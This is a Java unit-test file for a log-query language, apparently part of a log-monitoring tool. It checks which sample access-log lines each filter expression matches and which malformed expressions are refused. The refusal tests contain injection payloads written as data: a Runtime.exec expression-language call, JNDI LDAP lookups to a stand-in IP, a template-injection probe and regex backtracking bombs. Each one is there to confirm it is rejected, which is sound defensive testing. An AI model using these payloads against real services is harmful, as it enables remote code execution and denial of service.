package logmon.core.query;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeSet;
import java.util.stream.Stream;
import logmon.core.format.FormatCompiler;
import logmon.core.format.LineFormat;
import logmon.core.format.LineParser;
import logmon.core.format.ParsedLine;
import logmon.core.format.Presets;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A table of expressions against a table of records: which records each expression matches
 * (every operator, every kind of field, networks, regular expressions, precedence, fields a line
 * lacks), then expressions that must be refused, with the position and what was expected.
 */
class QueryTableTest {

  /** A format with every field logmon reads, and a header it does not. */
  static final String FORMAT = "%v:%p %h %l %u %t \"%r\" %>s %b \"%{Referer}i\" \"%{User-Agent}i\" %D"
      + " \"%{X-Forwarded-For}i\"";

  /** The records, by letter. D's request line has no method or path. */
  static final Map<String, String> LINES = new LinkedHashMap<>();

  static {
    LINES.put("A", "api.example:443 10.1.2.3 - alice [04/Dec/2026:21:00:00 +0000] \"POST /api/orders HTTP/1.1\" 500 1234"
        + " \"-\" \"curl/8.0\" 250000 \"203.0.113.9\"");
    LINES.put("B", "www.example:80 192.168.0.5 - - [04/Dec/2026:21:00:01 +0000] \"GET /index.html HTTP/1.1\" 200 5120"
        + " \"https://ref.example/\" \"Mozilla/5.0\" 12000 \"-\"");
    LINES.put("C", "api.example:443 2001:db8::7 - - [04/Dec/2026:21:00:02 +0000] \"GET /api/v1/items?id=7 HTTP/2.0\" 404 -"
        + " \"-\" \"Googlebot/2.1\" 1500 \"198.51.100.1, 10.0.0.1\"");
    LINES.put("D", "www.example:80 10.200.0.1 - - [04/Dec/2026:21:00:03 +0000] \"-\" 408 0 \"-\" \"-\" 5 \"-\"");
  }

  static Stream<Arguments> matches() {
    return Stream.of(
        // numbers
        Arguments.of("status == 500", "A"),
        Arguments.of("status != 500", "BCD"),
        Arguments.of("status >= 400", "ACD"),
        Arguments.of("status > 404", "AD"),
        Arguments.of("status < 300", "B"),
        Arguments.of("status <= 301", "B"),
        Arguments.of("status == 4xx", "CD"),
        Arguments.of("status >= 4xx", "ACD"),
        Arguments.of("status in [200, 404]", "BC"),
        Arguments.of("status not in [200, 404]", "AD"),
        Arguments.of("status ~ '^4'", "CD"),
        Arguments.of("bytes > 1000", "AB"),
        Arguments.of("bytes == 0", "CD"),
        Arguments.of("responseTimeMs > 100", "A"),
        Arguments.of("responseTimeMs < 2", "CD"),
        Arguments.of("responseTimeMs == 1.5", "C"),
        Arguments.of("port == 443", "AC"),
        // text, and parts of the request line (D has none: comparisons false, negations true)
        Arguments.of("method == POST", "A"),
        Arguments.of("method != GET", "AD"),
        Arguments.of("path == '/api/orders'", "A"),
        Arguments.of("path ^= /api/", "AC"),
        Arguments.of("path ~ '^/api/v[0-9]+/'", "C"),
        Arguments.of("path !~ '^/api'", "BD"),
        Arguments.of("query == 'id=7'", "C"),
        Arguments.of("endpoint == \"/api/v1/items?id=7\"", "C"),
        Arguments.of("protocol == HTTP/2.0", "C"),
        Arguments.of("user == alice", "A"),
        Arguments.of("user != 'al\\'ice'", "ABCD"),
        Arguments.of("referer == '-'", "ACD"),
        Arguments.of("agent ~ '(?i)BOT'", "C"),
        Arguments.of("host == api.example", "AC"),
        Arguments.of("host in [www.example, none.example]", "BD"),
        // a request header the format logs, by nginx's name
        Arguments.of("http_x_forwarded_for ^= 203.0.113.", "A"),
        Arguments.of("http_x_forwarded_for == '-'", "BD"),
        Arguments.of("http_x_forwarded_for ~ '10\\.0\\.0\\.1$'", "C"),
        // clients: exact, networks v4 and v6
        Arguments.of("client == 10.1.2.3", "A"),
        Arguments.of("client in 10.0.0.0/8", "AD"),
        Arguments.of("client in 10.128.0.0/9", "D"),
        Arguments.of("client in [10.0.0.0/8, 2001:db8::/32]", "ACD"),
        Arguments.of("client in 2001:db8::/32", "C"),
        Arguments.of("client in 2001:db9::/32", ""),
        Arguments.of("client in [192.168.0.5]", "B"),
        Arguments.of("client not in 10.0.0.0/8", "BC"),
        Arguments.of("client in 0.0.0.0/0", "ABD"),
        // time
        Arguments.of("time >= '2026-12-04T21:00:02Z'", "CD"),
        Arguments.of("time < 1796418001", "A"),
        // precedence: not over and over or; parentheses; && || !
        Arguments.of("status == 200 or status == 500 and method == GET", "B"),
        Arguments.of("(status == 200 or status == 500) and method == POST", "A"),
        Arguments.of("not status == 200 and port == 80", "D"),
        Arguments.of("not (status == 200 and port == 80)", "ACD"),
        Arguments.of("status >= 400 && !(client in 10.0.0.0/8) || user == alice", "AC"),
        Arguments.of("((status == 404))", "C"),
        // catastrophic for a backtracking engine; linear in RE2/J
        Arguments.of("path ~ '^(a+)+$'", ""),
        // counted repetitions within bounds compile
        Arguments.of("path ~ '^/(ap{1,2}i|x{1000})/'", "AC"),
        Arguments.of("agent ~ '\\p{Lu}[a-z]{3,}[[:alpha:]]'", "BC"));
  }

  @ParameterizedTest(name = "{0} → {1}")
  @MethodSource("matches")
  void matchesTheseRecords(String expression, String expected) {
    LineFormat format = FormatCompiler.compile("custom", FORMAT);
    Query query = Query.compile(expression, List.of(format));
    TreeSet<String> matched = new TreeSet<>();
    ParsedLine parsed = new ParsedLine();
    LINES.forEach((id, line) -> {
      assertThat(format.match(line, parsed)).as("line %s parses", id).isTrue();
      if (query.test(parsed)) {
        matched.add(id);
      }
    });
    assertThat(String.join("", matched)).isEqualTo(expected);
  }

  @Test
  void aHeaderOnlySomeLinesCarryReadsAsMissingInTheOthers() {
    // auto: an nginx line has $http_x_forwarded_for, a common line has no such field.
    LineParser parser = LineParser.of(LineParser.AUTO);
    Query equal = Query.compile("http_x_forwarded_for == '203.0.113.9'", Presets.all());
    Query notEqual = Query.compile("http_x_forwarded_for != '203.0.113.9'", Presets.all());
    String nginx = "10.0.0.1 - - [04/Dec/2026:21:00:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"curl\" \"203.0.113.9\"";
    String common = "10.0.0.1 - - [04/Dec/2026:21:00:00 +0000] \"GET / HTTP/1.1\" 200 5";
    assertThat(equal.test(parser.parse(nginx))).isTrue();
    assertThat(notEqual.test(parser.parse(nginx))).isFalse();
    assertThat(parser.parse(common).format().name()).isEqualTo("common");
    assertThat(equal.test(parser.parse(common))).isFalse();
    assertThat(notEqual.test(parser.parse(common))).isTrue();
  }

  static Stream<Arguments> refused() {
    return Stream.of(
        Arguments.of("", 1, "expected a field name"),
        Arguments.of("status >", 9, "expected a value after '>'"),
        Arguments.of("stauts == 404", 1, "unknown field 'stauts'; fields of this format: client, user, time"),
        Arguments.of("status == abc", 11, "'abc' is not a number"),
        Arguments.of("path < 5", 6, "'<' compares numbers and times; path is text"),
        Arguments.of("path ~ '('", 8, "not a regular expression (RE2 syntax)"),
        Arguments.of("(status == 200", 15, "expected ')' to close the '(' at position 1"),
        Arguments.of("status == 200 garbage", 15, "expected and, or or the end"),
        Arguments.of("status = 200", 8, "'=' alone: compare with =="),
        Arguments.of("status == 200 & port == 80", 15, "'&' alone means nothing"),
        Arguments.of("client in 10.0.0.0/33", 11, "is not a network"),
        Arguments.of("path == 'abc", 9, "is not closed by '"),
        Arguments.of("path in '/a'", 9, "expected '[' after in"),
        Arguments.of("status in [200 404]", 16, "expected ',' or ']'"),
        Arguments.of("time > yesterday", 8, "is not a time"),
        Arguments.of("path", 5, "expected an operator after path"),
        Arguments.of("and == 1", 1, "expected a field name"),
        // escape attempts: no expression language, no lookups, nothing to call
        Arguments.of("T(java.lang.Runtime).getRuntime().exec('id')", 1, "unknown field 'T'"),
        Arguments.of("${jndi:ldap://203.0.113.1/a}", 1, "unexpected character '$'"),
        Arguments.of("path == ${jndi:ldap://203.0.113.1/a}", 9, "unexpected character '$'"),
        Arguments.of("#{7*7} == 1", 1, "unexpected character '#'"),
        Arguments.of("path ~ '" + "a".repeat(2_000) + "'", 8, "longer than 1024 characters"),
        Arguments.of("path ~ '" + "a".repeat(10 * 1024 * 1024) + "'", 4_097, "longer than 4096 characters"),
        Arguments.of("path ~ '((a{1000}){1000}){1000}'", 8, "regular expression"),
        Arguments.of("(".repeat(100) + "status == 200" + ")".repeat(100), 66, "nested more than 64 deep"));
  }

  @ParameterizedTest(name = "[{index}] {2}")
  @MethodSource("refused")
  void refusesWithThePositionAndWhatWasExpected(String expression, int position, String message) {
    LineFormat format = FormatCompiler.compile("custom", FORMAT);
    Assertions.assertTimeoutPreemptively(Duration.ofSeconds(60), () ->
        assertThatThrownBy(() -> Query.compile(expression, List.of(format)))
            .isInstanceOf(QueryException.class)
            .hasMessageStartingWith("position " + position + ": ")
            .hasMessageContaining(message));
  }

  @Test
  void aFieldTheFormatLacksIsRefusedByName() {
    assertThatThrownBy(() -> Query.compile("status == 200 and agent ~ bot", List.of(Presets.all().get(3))))
        .hasMessage("position 19: the log format (common) carries no field agent");
    assertThatThrownBy(() -> Query.compile("responseTimeMs > 100", Presets.all()))
        .hasMessage("position 1: the log format (vcombined, nginx, combined, common) carries no field responseTimeMs: name the format with --log-format");
  }

  @Test
  void aBacktrackingBombOnALongPathEndsQuickly() {
    LineFormat format = FormatCompiler.compile("custom", FORMAT);
    String path = "/" + "a".repeat(200_000) + "!";
    String line = LINES.get("B").replace("/index.html", path);
    ParsedLine parsed = new ParsedLine();
    assertThat(format.match(line, parsed)).isTrue();
    Query query = Query.compile("path ~ '^/(a+)+$' or path ~ '(a|aa)*b' or agent ~ '(x+x+)+y'", List.of(format));
    // java.util.regex takes exponential time here; RE2/J is linear. The bound only detects a hang.
    Assertions.assertTimeoutPreemptively(Duration.ofSeconds(60), () -> assertThat(query.test(parsed)).isFalse());
  }

  /** The README's examples, each against the format it is shown with. */
  @ParameterizedTest(name = "{0}")
  @org.junit.jupiter.params.provider.CsvSource(delimiter = '|', value = {
      "status >= 500                                                           | auto",
      "path ^= /api/checkout and status == 5xx                                 | auto",
      "client in [10.0.0.0/8, 2001:db8::/32] and not agent ~ \"(?i)bot\"       | auto",
      "responseTimeMs > 500                                                    | %h %l %u %t \"%r\" %>s %b %D",
      "http_x_forwarded_for != \"-\"                                           | nginx",
  })
  void theReadmeExamplesCompile(String expression, String format) {
    assertThat(Query.compile(expression.strip(), LineParser.formats(format.strip())).expression())
        .isEqualTo(expression.strip());
  }
}
